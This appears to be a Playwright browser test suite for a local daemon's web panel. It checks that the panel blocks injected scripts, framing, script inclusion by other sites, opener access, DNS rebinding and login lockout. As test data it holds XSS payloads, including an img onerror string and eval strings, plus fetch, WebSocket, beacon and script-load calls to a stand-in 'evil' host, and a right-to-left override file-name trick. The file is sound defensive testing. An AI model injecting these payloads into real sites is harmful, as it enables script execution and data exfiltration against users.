import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { NO_CHROMIUM, startChromium } from '../../support/browser/chromium.ts';
import { PanelPage } from '../../support/browser/panel-page.ts';
import { RecordedSite } from '../../support/browser/recorded-site.ts';
import { TappedApi } from '../../support/browser/tapped-api.ts';
import { TestDaemon } from '../../support/daemon.ts';
import { eventually } from '../../support/eventually.ts';

const TOKEN = 'correct-horse-battery-staple';
/** More than the wrong tokens that an address may send in a burst. */
const WRONG_LINKS = 12;
/** The effect of a script that runs. */
const RUN = 'globalThis.ran = true';
/** A valid name: it contains markup, but no control characters. */
const MARKUP = '<img src=x onerror="globalThis.ran = true">';
/** Length of a name that a daemon of svcd would reject, characters. */
const LONG_CHARS = 65_536;
/** A text that is markup, turns the reading direction and hides a character. */
const ODD = `${MARKUP}\u202egnp.exe\u200b`;

/**
 * Attempts of injected markup or scripts in the panel; each must fail. They run in a timer, because code that the browser driver evaluates can bypass the policy.
 */
const TRIES: Readonly<Record<string, string>> = {
  'run a text': `eval('${RUN}')`,
  'make a function of a text': `new Function('${RUN}')()`,
  'run a text later': `new Promise((_, fail) => { setTimeout('${RUN}'); setTimeout(fail, 50); })`,
  'write markup': `void (document.body.innerHTML += '<img src=x onerror="${RUN}">')`,
  'write a document': `document.write('<script>${RUN}</script>')`,
  'add a script of its own': `loaded('script', { text: '${RUN}' })`,
  'load a script of an agent': `loaded('script', { src: agent + 'script.js' })`,
  'load a module of an agent': `import(agent + 'script.js')`,
  'load a script of the reference': `loaded('script', { src: '/docs/swagger-ui-bundle.js' })`,
  'load a script of the attacker': `loaded('script', { src: evil + '/script.js' })`,
  'load a style of an agent': `loaded('link', { rel: 'stylesheet', href: agent + 'style.css' })`,
  'load a picture of the attacker': `loaded('img', { src: evil + '/image' })`,
  'load a font of the attacker': `new FontFace('f', 'url(' + evil + '/font)').load()`,
  'call the attacker': `fetch(evil + '/fetch', { mode: 'no-cors' })`,
  'open a socket to the attacker': `new Promise((open, fail) => {
    const socket = new WebSocket(evil.replace('http', 'ws'));
    socket.onopen = open;
    socket.onerror = fail;
  })`,
  'send a beacon to the attacker': `navigator.sendBeacon(evil + '/beacon') && Promise.reject(new Error('only queued'))`,
  'start a worker': `new Promise((ran, fail) => {
    const worker = new Worker(agent + 'script.js');
    worker.onmessage = ran;
    worker.onerror = fail;
  })`,
  'start a worker of the panel': `new Promise((ran, fail) => {
    const worker = new Worker(document.querySelector('script[src]').src);
    worker.onmessage = ran;
    worker.onerror = fail;
  })`,
  'register a service worker': `navigator.serviceWorker.register(document.querySelector('script[src]').src)`,
  'register a service worker of an agent': `navigator.serviceWorker.register(agent + 'script.js')`,
  'keep another origin in a frame': `new Promise((shown, fail) => {
    const frame = document.createElement('iframe');
    frame.src = agent;
    frame.onload = () => { try { frame.contentDocument.title ? shown() : fail() } catch { fail() } };
    document.body.append(frame);
  })`,
};

/** The result of an attack: `done` or `refused`. */
function tried(script: string, agent: string, evil: string): string {
  return `(async () => {
    const [agent, evil] = ${JSON.stringify([agent, evil])};
    const loaded = (tag, members) => new Promise((load, fail) => {
      const element = Object.assign(document.createElement(tag), members);
      element.onload = load;
      element.onerror = fail;
      document.head.append(element);
    });
    return new Promise((settle) => setTimeout(() =>
      (async () => ${script})().then(() => settle('done'), () => settle('refused'))));
  })()`;
}

/** The path of a script of the panel. */
async function scriptOf(api: string): Promise<string> {
  const page = await (await fetch(`${api}/`)).text();
  return /\/panel\/main-[\w-]+\.js/.exec(page)?.[0] ?? '';
}

test('the panel runs, loads and sends nothing that an attacker injects', { skip: NO_CHROMIUM }, async (t) => {
  await using evil = await RecordedSite.start((_request, response) => void response.end(RUN));
  await using service = await RecordedSite.start((request, response) => {
    const isScript = request.url?.endsWith('.js') === true;
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/css');
    response.end(isScript ? `${RUN}; globalThis.postMessage?.('ran')` : 'body { display: none }');
  });
  await using daemon = await TestDaemon.start();
  const own = await daemon.newAgent();
  const agent = await daemon.newAgent(`127.0.0.1:${service.port}`);
  await daemon.call('POST', `/agents/${agent}/profile`, { name: MARKUP, brief: MARKUP });
  await daemon.call('POST', `/agents/${agent}/chat/request`, { peer: own, note: ODD });
  await using browser = await startChromium();
  await using panel = await PanelPage.open(browser, daemon.api);
  const { page } = panel;

  await t.test('text from others is text, with its invisible characters escaped', async () => {
    await eventually('the request has arrived', async () => {
      const { in_pending } = await daemon.call<{ in_pending: unknown[] }>('GET', `/agents/${own}/chat/contacts`);
      return in_pending.length > 0;
    });
    await page.reload();
    for (const [route, text] of [
      ['', `${MARKUP}\\u202egnp.exe\\u200b`],
      ['agents', MARKUP],
      [`messages/${own}`, MARKUP],
    ] as const) {
      await panel.go(route, /./);
      await page.getByText(text).and(page.locator(':visible')).first().waitFor();
      assert.equal(await page.locator('img').count(), 0, route);
      await panel.check(`odd text ${route === '' ? 'at home' : route.split('/')[0]}`);
    }
  });

  await t.test('a name of 64 kB from another node does not break the page', async () => {
    const long = `${'n'.repeat(LONG_CHARS)}<b>`;
    const lists = /\/agents(\?|$)/;
    await page.route(lists, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replaceAll(/"name":"(?:[^"\\]|\\.)*"/g, `"name":"${long}"`);
      await route.fulfill({ response: answer, body });
    });
    for (const route of ['', 'agents']) {
      await page.reload();
      await panel.go(route, /./);
      await page.getByText('nnnnnnnn').and(page.locator(':visible')).first().waitFor();
      assert.equal(await page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true, route);
      await panel.check(`a long name ${route === '' ? 'at home' : route}`);
    }
    await page.unroute(lists);
    await page.reload();
  });

  await t.test('the pages of an agent open without an opener', async () => {
    await panel.go(`discover/${agent}`, /./);
    const [popup] = await Promise.all([
      panel.context.waitForEvent('page'),
      page.getByRole('link', { name: 'Open its web pages' }).click(),
    ]);
    await popup.waitForLoadState();
    assert.equal(await popup.evaluate('opener'), null);
    assert.equal(await popup.evaluate('document.referrer'), '');
    await popup.close();
  });

  await t.test('injected code cannot run, load or send anything', async () => {
    await panel.go('', /./);
    for (const [what, script] of Object.entries(TRIES)) {
      const outcome = await page.evaluate(tried(script, `/aid/${agent}/`, evil.at('evil.test')));
      assert.equal(outcome, 'refused', what);
      assert.equal(await page.evaluate('globalThis.ran'), undefined, what);
    }
    const before = page.url();
    await page.evaluate(`setTimeout(() => {
      const form = Object.assign(document.createElement('form'), { action: ${JSON.stringify(evil.at('evil.test'))}, method: 'post' });
      document.body.append(form);
      form.submit();
      Object.assign(document.createElement('base'), { href: ${JSON.stringify(evil.at('evil.test'))} });
    })`);
    await eventually('the form was stopped', async () =>
      (await page.evaluate<string[]>('violations')).some((what) => what.startsWith('form-action')),
    );
    assert.equal(page.url(), before);
    assert.deepEqual(panel.context.serviceWorkers(), []);
    assert.deepEqual(await panel.context.cookies(), []);
    assert.deepEqual(evil.asked, []);
    panel.forgive();
  });
});

test('no other page can frame, control or include the panel, or use up its logins', {
  skip: NO_CHROMIUM,
}, async (t) => {
  await using daemon = await TestDaemon.start({ config: `api_token = "${TOKEN}"\nrequire_local_token = true\n` });
  await using tap = await TappedApi.start(daemon.api);
  const script = await scriptOf(daemon.api);
  assert.notEqual(script, '');
  await using site = await RecordedSite.start((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>attack</title><body>');
  });
  await using browser = await startChromium();
  const attack = async (origin: string, run: (page: Page) => Promise<void>): Promise<void> => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(origin);
    tap.asked.length = 0;
    await run(page);
    await context.close();
  };

  for (const origin of [site.at('evil.test'), site.at('127.0.0.1')])
    await t.test(origin.replace(/:\d+$/, ''), async () => {
      await attack(origin, async (page) => {
        for (const tag of ['iframe', 'embed', 'object']) {
          const part = { tag, at: tag === 'object' ? 'data' : 'src', url: `${tap.url}/` };
          await page.evaluate(`(({ tag, at, url }) => {
            const element = document.createElement(tag);
            element[at] = url;
            document.body.append(element);
          })(${JSON.stringify(part)})`);
        }
        await eventually('three were refused', () => tap.asked.filter(({ status }) => status === 403).length === 3);
        assert.ok(tap.asked.every(({ status }) => status === 403));
      });

      await attack(origin, async (page) => {
        const include = `new Promise((settle) => {
          const element = Object.assign(document.createElement('script'), { src: '${tap.url}${script}', type: 'module' });
          element.onload = () => settle('loaded');
          element.onerror = () => settle('refused');
          document.head.append(element);
        })`;
        assert.equal(await page.evaluate(include), 'refused');
        assert.ok(tap.asked.every(({ status }) => status === 403));
      });

      await attack(origin, async (page) => {
        await page.evaluate(`document.body.innerHTML = '<button>open</button>';
          document.querySelector('button').onclick = () => { globalThis.opened = open('${tap.url}/#/agents') };`);
        const [popup] = await Promise.all([page.context().waitForEvent('page'), page.click('button')]);
        await popup.getByRole('heading', { level: 1, name: 'Log in' }).waitFor();
        assert.equal(await popup.evaluate('opener'), null);
        assert.equal(await page.evaluate('opened.closed'), true, 'the opener has no reference to it');
      });
    });

  await t.test('links with wrong codes do not lock out the user', async () => {
    const context = await browser.newContext();
    for (let i = 0; i < WRONG_LINKS; i++) {
      const page = await context.newPage();
      await page.goto(`${tap.url}/#login=wrong${i}`);
      await page.getByRole('heading', { level: 1, name: 'Log in' }).waitFor();
      assert.equal(await page.evaluate('location.hash'), '#/');
      await page.close();
    }
    await context.close();
    assert.equal(tap.asked.filter(({ path }) => path === '/panel/session').length, WRONG_LINKS);
    const answer = await daemon.request('GET', '/agents', undefined, { authorization: `Bearer ${TOKEN}` });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
  });

  await t.test('a host name that resolves to the daemon shows no panel', async () => {
    const page = await browser.newPage();
    await page.goto(`${tap.url.replace('127.0.0.1', 'rebound.test')}/`);
    assert.match(await page.content(), /forbidden_host/);
    await page.close();
  });
});
